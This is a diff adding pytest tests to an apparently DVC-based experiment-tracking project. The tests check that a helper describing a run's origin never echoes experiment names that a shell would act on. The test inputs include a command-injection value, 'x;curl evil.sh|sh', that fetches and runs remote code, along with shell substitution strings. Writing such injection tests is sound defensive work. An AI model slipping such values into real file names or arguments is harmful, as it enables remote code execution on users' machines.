@@ -44,6 +44,18 @@ def trained(dataset: Path, params: Params) -> tuple[Job, list[dict[str, Any]]]:
 FINGERPRINT = "f" * 20
 
 
+@pytest.mark.parametrize("name", ["x;curl evil.sh|sh", "`x`", "$(x)", "a\u202eb", "[x](http://x)"])
+def test_a_run_offers_no_command_with_a_name_that_a_shell_obeys(name: str) -> None:
+    text = record.describe_origin(name, "1f2e3d4")
+    assert name not in text
+    assert "`dvc exp show` lists it" in text
+
+
+def test_a_run_offers_the_command_that_restores_its_experiment() -> None:
+    assert record.describe_origin("bold-aunt", "1f2e3d4").endswith("`dvc exp apply bold-aunt`")
+    assert record.describe_origin("", "1f2e3d4") == "`dvc repro` on commit `1f2e3d4`"
+
+
 def training(params: Params) -> AbstractContextManager[tracking_run.Run]:
     """A training's run, in a world that may have no data."""
     split = Path("data/split.csv")
